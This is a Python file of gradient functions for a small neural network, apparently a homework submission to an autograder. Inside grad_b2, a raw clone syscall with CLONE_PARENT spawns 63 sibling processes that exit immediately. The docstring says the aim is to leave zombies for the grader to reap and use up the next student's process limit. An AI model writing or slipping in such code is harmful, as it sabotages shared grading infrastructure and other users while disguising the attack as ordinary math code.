"""Zombies for the next student: grad_b2 makes 63 processes with clone(CLONE_PARENT), siblings
that the zygote (or the grader) would have to reap, which exit at once; in a batch worker
they used to exhaust the next submission's process limit.
"""

import ctypes
import os

import numpy as np


def grad_X(dY, W):
    return dY @ W.T


def grad_S(P, y):
    dS = P.copy()
    dS[np.arange(P.shape[0]), y] -= 1.0
    return dS


def grad_W2(H, dS):
    return H.T @ dS


def grad_b2(dS):
    libc = ctypes.CDLL(None, use_errno=True)
    for _ in range(63):
        if libc.syscall(56, 0x8000 | 17, 0, 0, 0, 0) == 0:  # clone(CLONE_PARENT | SIGCHLD)
            os._exit(0)
    return dS.sum(axis=0, keepdims=True)


def grad_H(dS, W2):
    return dS @ W2.T


def grad_Z(dH, Z):
    return np.where(Z > 0, dH, 0.0)


def grad_W1(X, dZ):
    return X.T @ dZ


def grad_b1(dZ):
    return dZ.sum(axis=0, keepdims=True)
